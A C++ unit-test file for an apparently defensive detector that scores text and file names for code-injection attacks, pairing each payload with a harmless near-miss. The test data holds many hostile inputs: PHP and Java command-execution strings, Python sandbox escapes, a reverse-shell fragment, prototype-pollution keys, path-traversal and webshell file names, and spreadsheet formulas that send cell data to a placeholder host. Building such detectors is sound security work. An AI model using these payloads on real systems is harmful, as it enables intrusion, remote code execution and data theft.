#include "inspect/code/code.h"
#include "inspect/code/points_of.h"

#include <gtest/gtest.h>

#include <string_view>

#include "inspect/code/prototype.h"
#include "inspect/code/upload.h"

namespace onesec::inspect {
namespace {

TEST(Code, ProgramsOfServers) {
  for (const std::string_view text : {"<?php echo 1;",
                                      "<?= $x ?>",
                                      "<? exec('id'); ?>",
                                      "$_GET['c']",
                                      "$f(1)",
                                      "${'a'}",
                                      "('sys'.'tem')('id')",
                                      "(system)(ls)",
                                      "shell_exec('id')",
                                      "phpinfo()",
                                      "eval(base64_decode('eA=='))",
                                      "';system('id');//",
                                      "allow_url_include=1",
                                      "-d auto_prepend_file=php://input",
                                      "java.lang.Runtime",
                                      "new java.lang.ProcessBuilder(x)",
                                      "@java.lang.Runtime@getRuntime()",
                                      "class.module.classLoader.resources",
                                      "org.apache.commons.collections.functors.InvokerTransformer",
                                      "require('child_process')",
                                      "process.mainModule.require",
                                      "this.constructor.constructor",
                                      "function(){ return 1; }",
                                      "while(true)",
                                      "console.log(1)",
                                      "().__class__.__base__.__subclasses__()",
                                      "__import__('os')",
                                      "os.system('id')",
                                      R"x(<!--#exec cmd="id"-->)x"}) {
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  }
}
TEST(Code, ProseAndOtherPrograms) {
  for (const std::string_view text : {"file (1).pdf",
                                      "printf(3), open(2)",
                                      "system (old)",
                                      "https://host.example/exec(disambiguation)",
                                      "the date (new) is set",
                                      "java.util is a package",
                                      "sun.com",
                                      "java.html",
                                      "a NullPointerException at java.lang.Thread.run",
                                      R"x(<?xml version="1.0"?>)x",
                                      R"x("string-ci<?",)x",
                                      "f(x) = 2x",
                                      "$5 (each)",
                                      "$PLATFORM (or so)",
                                      "__init__.py",
                                      "self.__class__",
                                      "while (x < 3)",
                                      "a function (see below) {",
                                      "read the process.",
                                      "x = y",
                                      "total(a)",
                                      "New function to set keys"}) {
    EXPECT_LT(points_of_code(text), kThreshold) << text;
  }
}
TEST(Code, UploadsThatTheServerWouldRun) {
  const auto of_name = [](std::string_view name) {
    Reasons out;
    inspect_file_name(name, out);
    return out.points(Attack::Code);
  };
  for (const std::string_view name :
       {"a.php", "A.PHP5", "a.php...", "a.jsp ", "a. php", "x/a.aspx", ".htaccess", "web.config", "a.php::$DATA"})
    EXPECT_GE(of_name(name), kThreshold) << name;
  for (const std::string_view name : {"a.png", "report.pdf", "php.txt", "a.php.png", "notes", ".php", "", "."})
    EXPECT_LT(of_name(name), kThreshold) << name;
}
TEST(Code, UploadsWhoseNamesLeadElsewhere) {
  const auto of_name = [](std::string_view name, Attack attack) {
    Reasons out;
    inspect_file_name(name, out);
    return out.points(attack);
  };
  EXPECT_GE(of_name("../a.zip", Attack::Path), kThreshold);
  EXPECT_GE(of_name("a\\..\\b.txt", Attack::Path), kThreshold);
  EXPECT_LT(of_name("a..b.zip", Attack::Path), kThreshold);
  EXPECT_LT(of_name("C:\\Users\\anna\\a.zip", Attack::Path), kThreshold);
  EXPECT_GE(of_name("/tmp/sess_0123456789abcdefghijkl", Attack::Code), kThreshold);
  EXPECT_GE(of_name("sess_chosen-by-client", Attack::Code), kThreshold);
  EXPECT_LT(of_name("sess_monday.txt", Attack::Code), kThreshold);
  EXPECT_LT(of_name("sess_monday", Attack::Code), kThreshold);
  EXPECT_EQ(of_name("holiday..png", Attack::Code), 0U);
  EXPECT_GE(of_name("a.php907...", Attack::Code), kThreshold);
  EXPECT_LT(of_name("a.phpbb", Attack::Code), kThreshold);
}
TEST(Code, ACallThatIsCutOff) {
  EXPECT_GE(points_of_code("base64_decode("), kThreshold);
  EXPECT_LT(points_of_code("see base64_decode("), kThreshold);
  EXPECT_LT(points_of_code("date("), kThreshold);
}
TEST(Code, PhpWithoutLetters) {
  for (const std::string_view text : {"(0^0).(0^0)", "((1).(2)^(3).(4))|(5)", "(~(9)).(~(8)).(7)"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text : {"(2^3)*(4^5)", "(12).(34)", "(030) 12.34 | 56", "(1).(2)^3", "(0)^(0)"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}
TEST(Code, FunctionsByNamesInVariables) {
  for (const std::string_view text : {"$a->$name(7)", "A::$name(7)", "$__[$_[1]](7)"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text : {"$a->name (7)", "A::$name", "cost: $a[$b[1]] (or so)"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}
TEST(Code, NamesOfPrototypes) {
  const auto of = [](std::string_view text, bool is_name) {
    Reasons out;
    inspect_prototype(text, is_name, ascii::Alphabet(text), out);
    return out.points(Attack::Prototype);
  };
  for (const std::string_view name :
       {"__proto__", "__proto__[a]", "a.__proto__.b", "constructor.prototype.x", "a[constructor][prototype]"})
    EXPECT_GE(of(name, true), kThreshold) << name;
  EXPECT_GE(of(R"({"__proto__": {"admin": true}})", false), kThreshold);
  EXPECT_GE(of(R"(constructor":{"prototype)", true), kThreshold);
  EXPECT_GE(of("/__proto__/admin", false), kThreshold);
  EXPECT_GE(of("/a/constructor/prototype/b", false), kThreshold);
  EXPECT_LT(of("/docs/constructor/prototype", false), kThreshold);
  for (const std::string_view name : {"__globals__", "__subclasses__", "Object.prototype.admin"})
    EXPECT_GE(of(name, true), kThreshold) << name;
  EXPECT_LT(of("__class__", true), kThreshold);
  EXPECT_LT(of("__name__", true), kThreshold);
  for (const std::string_view text :
       {"__pro__proto__to__.a", "constconstructorructor[a]", "b.constructor.prototype.c", "Object.prototype.a=1"})
    EXPECT_GE(of(text, false), kThreshold) << text;
  for (const std::string_view text :
       {"see b.constructor.prototype.c", "Object.prototype.toString.call(a)", "constructors", "Object.prototype.a==1"})
    EXPECT_LT(of(text, false), kThreshold) << text;
  for (const std::string_view text :
       {"the __proto__ property", "constructor", "a constructor. prototype", "prototype.js"})
    EXPECT_LT(of(text, false), kThreshold) << text;
}
TEST(Code, AnAttackAndItsNearMiss) {
  EXPECT_GE(points_of_code("T(java.lang.Runtime).getRuntime().exec('id')"), kThreshold);
  EXPECT_LT(points_of_code("T (temperature) and R (runtime)"), kThreshold);
  EXPECT_GE(points_of_code("{${phpinfo()}}"), kThreshold);
  EXPECT_LT(points_of_code("{phpinfo}"), kThreshold);
  EXPECT_GE(points_of_code("assert($_REQUEST['x'])"), kThreshold);
  EXPECT_LT(points_of_code("assert (your rights)"), kThreshold);
  EXPECT_GE(points_of_code("class.module.classLoader.resources.context"), kThreshold);
  EXPECT_LT(points_of_code("class.module.name"), kThreshold);
  EXPECT_GE(points_of_code("<!--#include virtual=\"/srv/a\"-->"), kThreshold);
  EXPECT_LT(points_of_code("<!-- include this -->"), kThreshold);
  EXPECT_GE(points_of_code("__import__('os').popen('id')"), kThreshold);
  EXPECT_LT(points_of_code("__tablename__ is users"), kThreshold);
  EXPECT_GE(points_of_code("global.process.mainModule"), kThreshold);
  EXPECT_GE(points_of_code("throw new Exception('id'.execute().text)"), kThreshold);
  EXPECT_LT(points_of_code("rows['a'].execute(); cursor.execute('x')"), kThreshold);
  EXPECT_LT(points_of_code("the global process of peace"), kThreshold);
}
TEST(Code, LinesOfAStackTraceAreNoCalls) {
  EXPECT_LT(points_of_code("x\n\tat java.base/java.lang.Thread.run(Thread.java:829)\n\tat a.b.C.m(Native Method)"),
            kThreshold);
  EXPECT_LT(points_of_code("at java.net.URLClassLoader.findClass(URLClassLoader.java:382)"), kThreshold);
  EXPECT_GE(points_of_code("java.lang.Thread.run(x)"), kThreshold);
  EXPECT_GE(points_of_code("new java.lang.ProcessBuilder('.java:1')"), kThreshold)
      << "an argument isn't a place in a file";
  EXPECT_GE(points_of_code("new java.lang.ProcessBuilder(x.java)"), kThreshold);
  EXPECT_LT(points_of_code("function add(a, b) { return a + b; }"), kThreshold) << "declared, and called by nobody";
}
TEST(Code, FieldsOfFacesAndStruts) {
  for (const std::string_view name : {"javax.faces.ViewState", "jakarta.faces.partial.ajax", "com.sun.faces.token",
                                      "org.apache.struts.taglib.html.TOKEN", "org.apache.myfaces.tobago.page"})
    EXPECT_LT(points_of_code(name), kThreshold) << name;
  EXPECT_GE(points_of_code("javax.faces.FactoryFinder@x"), kThreshold);
  EXPECT_GE(points_of_code("org.apache.struts.util.Chain"), kThreshold);
}
TEST(Code, NounsWithAPluralAreNoCalls) {
  for (const std::string_view text :
       {"File(s)", "Date(s)", "System(TM)", "count(orders)", "id,count()", "Stat(es)", "mail()"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
  for (const std::string_view text :
       {"system(whoami)", "eval(x)", "file('/srv/a')", "date(\"Y\");", "exec(id)", "unpack()", "file/**/(a)"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
}
TEST(Code, LinesOfSource) {
  for (const std::string_view text : {"require('fs')", "require(\"path\");", "const a = require('b');"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
  for (const std::string_view text : {"require('child_process')", "require('fs').readFileSync('/srv/a')"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
}
TEST(Code, CallsThatAreTheWholeValue) {
  for (const std::string_view text : {"'.passthru('w').'",
                                      "\".exec(\"w\").\"",
                                      "die(sha1('a'))",
                                      "echo md5(7);",
                                      "exit(passthru('w'));",
                                      "import os;os.popen('w')",
                                      "include('/srv/a');",
                                      "require_once '../a';",
                                      "fopen(\"/srv/a\",\"r\");",
                                      "open('/srv/a').read()",
                                      "File.read('/srv/a')",
                                      "Kernel.system('w')",
                                      "%x(w)",
                                      "%x{w}",
                                      "system 'w'",
                                      "response.write(31*31)",
                                      "print(open('/srv/a').read())",
                                      "new ActiveXObject(\"WScript.Shell\").Run(\"w\")",
                                      "res.end(require('fs').readdirSync('.'))",
                                      "extract($_POST);",
                                      "new ReflectionFunction('exec');",
                                      "putenv('LD_PRELOAD=/a');",
                                      "@{[system 'w']}",
                                      "__builtins__['a']",
                                      "a.constructor('return b')()",
                                      "dl('a.so');",
                                      "Object.send(:system,'w')",
                                      "compile('a','b','exec')",
                                      "module.constructor._load('a')",
                                      "(~\x8f\x97\x8f\x96)();"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text : {"use os.system('w') in a sentence",
                                      "call include('/srv/a') first",
                                      "print(total)",
                                      "print(open('a.txt').read())",
                                      "echo hello",
                                      "open('a.txt')",
                                      "File.read(name)",
                                      "'.'",
                                      "100%x(2)",
                                      "response.write(total)",
                                      "system requirements",
                                      "the system 'w' is old",
                                      "exit (signal)",
                                      "die (Artikel)",
                                      "md5(a)",
                                      "a 'quoted' word",
                                      "load \"Shopping\"",
                                      "a.constructor('b')",
                                      "copy 'this'",
                                      "print 'a'",
                                      "open 'til late'",
                                      "x = 3*9",
                                      "print 4*6",
                                      "send(:all)",
                                      "require('../a')",

                                      "return hash('a')",
                                      "compile(a, 'b', 'exec')",
                                      "compile('a')",
                                      "~\xc3\xa4 (or so)",
                                      "~\xce\xb1\xce\xb2\xce\xb3(x)",
                                      "page._load(a)",
                                      "file.read() fails"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}
TEST(Code, EdgeSideIncludes) {
  EXPECT_GE(points_of_code("<!--esi $(HTTP_COOKIE)-->"), kThreshold);
  EXPECT_LT(points_of_code("<!--a comment-->"), kThreshold);
  for (const std::string_view text :
       {"<esi:debug/>", "<esi:vars>$(A)</esi:vars>", "a<esi:try >", "<ESI:assign name=\"a\"/>"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text : {"<esi:things>", "esi:include", "<esi:try", "<desi:try>"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}
TEST(Code, FormulasThatStartOrFetch) {
  for (const std::string_view text :
       {"=ms|'/x y'!B1", "@SUM(2)*ms|' /x y'!B1", "=WEBSERVICE(\"https://x.example/\"&B1)", "=DDE(\"ms\";\"y\";\"z\")",
        "=IF(B1,IMPORTXML(CONCAT(\"https://x.example/\",B1),\"//a\"))",
        "=HYPERLINK(\"https://x.example/?a=\"&B1,\"b\")"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text :
       {"=SUM(A1:A9)", "=HYPERLINK(\"https://a.example\",\"a\")", "=A1|B1", "ms|'x'!B1 is a reference", "-call (me)",
        "=IF(A1=\"x\";\"it's|'so'\";B1)", "@webservice (new)"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}
TEST(Code, WorkingsOfPythonByNames) {
  EXPECT_GE(points_of_code("a.__init__.__globals__"), kThreshold);
  EXPECT_LT(points_of_code("super().__init__(); super().__init__()"), kThreshold);
}

TEST(Code, LanguagesThatReachTheHost) {
  for (const std::string_view text :
       {"x.getClass().forName(\"java.lang.Runtime\")", "a().getMethod('getRuntime',null)",
        "\n@Grab(group='a',module='b')", "import socket,os;s=socket.socket();os.dup2(s.fileno(),0)",
        "[33:system('touch x')]", "f(v) os.execute('id')", "Process.Start(\"cmd.exe\",\"/c id\")",
        "CreateObject(\"\"WScript.Shell\"\").Exec(1)"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text : {"Class.forName(\"org.h2.Driver\")", "grab (a) drink", "import os; os.getcwd()",
                                      "ratio [33:system (a)]", "process.start the engine"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}

TEST(Code, WhatProgramsOfPhpAreToldToCall) {
  for (const std::string_view text :
       {"shell_exec", "/index/\\think\\app/invokefunction", "\\a\\B::c()->d('system')", "mail[#post_render][]",
        "die(md5(a_test));", "include('http://h.example/a.txt');"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text :
       {"issue [#process] tracker", "a[#markup] is open", "shell_exec is off", "C:/\\a\\b", "\\server\\share/a",
        "tags[#blue]", "[#process me", "include('a.inc');", "print(md5)"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}
TEST(Code, AddressesOfDatabases) {
  for (const std::string_view text :
       {"jdbc:h2:mem:a;INIT=RUNSCRIPT FROM 'http://h.example/a'", "jdbc:mysql://h.example/a?autoDeserialize=true",
        "jdbc:postgresql://h.example/a?socketFactory=org.B&socketFactoryArg=c"})
    EXPECT_GE(points_of_code(text), kThreshold) << text;
  for (const std::string_view text :
       {"jdbc:mysql://h.example/a?useSSL=true", "jdbc:h2:mem:a;MODE=MySQL", "a jdbc:h2:x runscript from"})
    EXPECT_LT(points_of_code(text), kThreshold) << text;
}

TEST(Code, StringsAndNamesThatAreNoCalls) {
  for (const std::string_view text : {"sum by (host) (count_over_time({job=\"syslog\"} |~ \"(?i)failed|denied\" [5m]))",
                                      "console.error: Cannot read properties of undefined (reading 'length')"}) {
    EXPECT_LT(points_of_code(text), kThreshold) << text;
  }
  EXPECT_GE(points_of_code("console['log'] (1)"), kThreshold);
  EXPECT_GE(points_of_code("\"system\"('id')"), kThreshold);
}

}  // namespace
}  // namespace onesec::inspect
